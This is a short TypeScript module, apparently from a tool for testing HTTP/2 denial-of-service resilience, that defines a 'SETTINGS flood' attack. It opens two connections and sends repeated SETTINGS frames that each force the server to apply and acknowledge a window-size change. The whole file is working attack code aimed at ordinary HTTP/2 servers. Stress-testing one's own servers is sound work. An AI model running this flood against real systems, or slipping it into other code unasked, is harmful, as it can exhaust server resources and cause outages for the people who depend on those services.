import { type Attack, repeated } from "./attack.js";
import { setting } from "./frames.js";

const INITIAL_WINDOW_SIZE = 4;

/** SETTINGS, each of which must be put in force and acknowledged. */
export const settingsFlood: Attack = {
  name: "SETTINGS flood",
  connections: 2,
  async run(connection) {
    await connection.begin();
    await connection.flood(repeated(setting(INITIAL_WINDOW_SIZE, 65_535), 200), 200);
  },
};
